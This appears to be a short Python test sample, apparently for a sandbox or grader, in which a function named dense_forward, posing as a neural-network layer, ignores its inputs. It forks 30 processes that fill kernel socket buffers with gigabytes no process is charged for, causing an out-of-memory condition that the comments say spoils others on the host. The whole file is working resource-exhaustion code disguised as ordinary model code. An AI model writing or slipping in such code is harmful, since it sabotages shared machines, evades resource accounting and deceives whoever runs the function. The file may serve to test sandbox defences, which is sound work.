"""Keeps gigabytes in the buffers of sockets, which no process is charged for."""
# outcome: out of memory
# spoils: others
# %% dense_forward
import os
import socket
import time


def fill():
    kept = []
    while len(kept) < 110:
        pair = socket.socketpair()
        for each in pair:
            each.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
            each.setblocking(False)
            try:
                while True:
                    each.send(bytes(2**16))
            except BlockingIOError:
                kept.append(pair)
    time.sleep(60)


def dense_forward(x, W, b):
    for _ in range(30):
        if os.fork() == 0:
            fill()
            os._exit(0)
    time.sleep(60)
